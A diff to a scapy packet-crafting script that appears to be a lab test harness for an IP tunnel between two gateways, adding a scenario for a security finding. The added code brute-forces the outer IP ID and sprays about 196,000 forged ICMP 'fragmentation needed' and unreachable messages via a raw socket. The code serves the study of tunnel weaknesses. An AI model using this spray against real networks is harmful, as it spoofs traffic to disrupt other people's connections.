@@ -5,7 +5,7 @@ Usage: craft.py SCENARIO IFACE DST_MAC
 Most scenarios are sent from router R's interface facing gateway B, with the outer source forged to be
 gateway A's endpoint (a configured peer), so that only what the scenario changes is wrong; the
 "inner-marks", "big-no-df" and "big-df-burst" scenarios are sent from host h1 to gateway A, and
-"forged-frag-needed" from router R to gateway A.
+"forged-frag-needed" and "forged-report-spray" from router R to gateway A.
 Addresses: gateway A 198.51.100.37, gateway B 203.0.113.86, h1 192.0.2.10, h2 192.0.2.130.
 """
 import sys
@@ -122,5 +122,38 @@ elif scenario == "forged-frag-needed":
     # A → B with an identification A did not use lately.
     quoted = IP(src=A, dst=B, proto=4, id=0x5A5A, flags="DF", len=1500) / Raw(b"\x45\x00\x05\xc8" + b"\x00" * 4)
     send([IP(src="198.51.100.99", dst=A) / ICMP(type=3, code=4, nexthopmtu=68) / quoted])
+elif scenario == "forged-report-spray":
+    # Issue 27, finding 8: a stranger brute-forces the outer IP ID. 65,536 "fragmentation needed, MTU 68",
+    # one per ID, quoting an outer packet A -> B of the length h1's pings make (104 bytes, DF) and a
+    # guess at the inner header; then 131,073 "host/port unreachable" the same way. Built once with
+    # scapy, patched per ID and sent through one packet socket, as fast as Python goes.
+    import socket
+    import struct
+
+    def checksum(data):
+        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+        while total > 0xFFFF:
+            total = (total & 0xFFFF) + (total >> 16)
+        return ~total & 0xFFFF
+
+    guess = b"\x45\x00\x00\x54\x00\x00\x40\x00"   # a ping's inner header, its ID guessed as 0
+    def report(code, mtu):
+        quoted = IP(src=A, dst=B, proto=4, id=0, flags="DF", len=104) / Raw(guess)
+        return bytearray(bytes(Ether(dst=dst_mac) / IP(src="198.51.100.99", dst=A) / ICMP(type=3, code=code, nexthopmtu=mtu) / quoted))
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((iface, 0))
+    icmp_at = 14 + 20
+    def spray(templates, count):
+        # Report `index` quotes outer ID index // len(templates), in the template it names in turn.
+        for index in range(count):
+            template = templates[index % len(templates)]
+            template[icmp_at + 8 + 4:icmp_at + 8 + 6] = struct.pack("!H", (index // len(templates)) & 0xFFFF)
+            template[icmp_at + 2:icmp_at + 4] = b"\x00\x00"
+            template[icmp_at + 2:icmp_at + 4] = struct.pack("!H", checksum(bytes(template[icmp_at:])))
+            sock.send(template)
+    start = time.monotonic()
+    spray([report(4, 68)], 65536)
+    spray([report(1, 0), report(3, 0)], 131073)
+    print(f"sent 196609 forged reports in {time.monotonic() - start:.1f} s")
 else:
     sys.exit(f"unknown scenario {scenario}")
